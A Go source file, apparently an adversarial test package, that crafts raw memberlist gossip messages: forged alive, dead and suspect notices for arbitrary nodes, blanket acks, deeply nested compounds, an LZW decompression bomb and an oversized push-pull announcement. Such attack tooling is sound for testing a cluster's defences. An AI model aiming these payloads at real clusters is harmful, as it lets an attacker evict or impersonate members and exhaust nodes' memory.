package attack

import (
	"bytes"
	"compress/lzw"
	"encoding/binary"
	"fmt"
	"net/netip"

	"github.com/bully-agent/bully-agent/wire"
)

// Messages of memberlist v0.7.0 (net.go), by the number that begins each.
const (
	ackMsg      = 2
	suspectMsg  = 3
	aliveMsg    = 4
	deadMsg     = 5
	pushPullMsg = 6
	compoundMsg = 7
	userMsg     = 8
	compressMsg = 9
	labelMsg    = 244
)

// Gossip makes memberlist's messages, as a member of a cluster would.
type Gossip struct{ Cluster string }

// label begins each datagram and each stream.
func (g Gossip) label() []byte { return append([]byte{labelMsg, byte(len(g.Cluster))}, g.Cluster...) }

// Datagram is one of messages: alone, or in a compound if there are more.
func (g Gossip) Datagram(messages ...[]byte) []byte {
	if len(messages) == 1 {
		return append(g.label(), messages[0]...)
	}
	return append(g.label(), Compound(messages...)...)
}

// Life is what an alive message says of a member: where it is, in which life. What it is, only its own session says.
type Life struct {
	ID          wire.ID
	Incarnation uint32 // of its lives
	Nonce       uint32
	Addr        netip.AddrPort
	Gossip      uint32
	Meta        []byte // in place of one made of what is above, if not nil
}

// node is a life's name in memberlist.
func (l Life) node() string { return fmt.Sprintf("%s#%08x", l.ID, l.Nonce) }

// meta is in the format of membership/admit.go, version 4.
func (l Life) meta() []byte {
	if l.Meta != nil {
		return l.Meta
	}
	return binary.BigEndian.AppendUint32([]byte{4}, l.Incarnation)
}

// Alive tells of a life.
func (l Life) Alive() []byte {
	addr := l.Addr.Addr().As4()
	m := newMessage(aliveMsg, 6)
	m.number("Incarnation", uint64(l.Gossip))
	m.raw("Node", []byte(l.node()))
	m.raw("Addr", addr[:])
	m.number("Port", uint64(l.Addr.Port()))
	m.raw("Meta", l.meta())
	m.raw("Vsn", []byte{1, 5, 5, 0, 0, 0})
	return m.b
}

// Dead tells of a life's end, and Suspect of a doubt.
func (l Life) Dead() []byte    { return l.doubt(deadMsg) }
func (l Life) Suspect() []byte { return l.doubt(suspectMsg) }

func (l Life) doubt(kind byte) []byte {
	m := newMessage(kind, 3)
	m.number("Incarnation", uint64(l.Gossip))
	m.raw("Node", []byte(l.node()))
	m.raw("From", []byte(l.node()))
	return m.b
}

// Ack answers a ping of that number, whoever was asked: it names nobody.
func Ack(number uint32) []byte {
	m := newMessage(ackMsg, 2)
	m.number("SeqNo", uint64(number))
	m.raw("Payload", nil)
	return m.b
}

// Compound holds messages, at most 255.
func Compound(messages ...[]byte) []byte {
	messages = messages[:min(len(messages), 255)]
	b := []byte{compoundMsg, byte(len(messages))}
	for _, m := range messages {
		b = binary.BigEndian.AppendUint16(b, uint16(len(m)))
	}
	return append(b, bytes.Join(messages, nil)...)
}

// Nested is a compound in a compound, so deep.
func Nested(depth int, innermost []byte) []byte {
	for range depth {
		innermost = Compound(innermost)
	}
	return innermost
}

// Bomb is a message that a receiver unpacks to so many bytes of zeros.
func Bomb(unpacked int) []byte {
	var packed bytes.Buffer
	w := lzw.NewWriter(&packed, lzw.LSB, 8)
	zeros := append([]byte{userMsg}, make([]byte, unpacked)...)
	_, _ = w.Write(zeros) // a buffer takes all
	_ = w.Close()
	m := newMessage(compressMsg, 2)
	m.number("Algo", 0)
	m.raw("Buf", packed.Bytes())
	return m.b
}

// PushPull begins a stream that announces so many nodes and so many bytes of state.
func (g Gossip) PushPull(nodes, state uint32) []byte {
	m := newMessage(pushPullMsg, 3)
	m.number("Nodes", uint64(nodes))
	m.number("UserStateLen", uint64(state))
	m.b = append(m.text("Join"), 0xc3) // true
	return append(g.label(), m.b...)
}

// message is a type and a map of msgpack, with the formats that memberlist writes.
type message struct{ b []byte }

func newMessage(kind byte, fields int) *message { return &message{[]byte{kind, 0x80 | byte(fields)}} }

func (m *message) text(s string) []byte { return append(append(m.b, 0xa0|byte(len(s))), s...) }

func (m *message) number(name string, v uint64) {
	m.b = append(m.text(name), 0xcf)
	m.b = binary.BigEndian.AppendUint64(m.b, v)
}

func (m *message) raw(name string, v []byte) {
	m.b = append(m.text(name), 0xda)
	m.b = append(binary.BigEndian.AppendUint16(m.b, uint16(len(v))), v...)
}
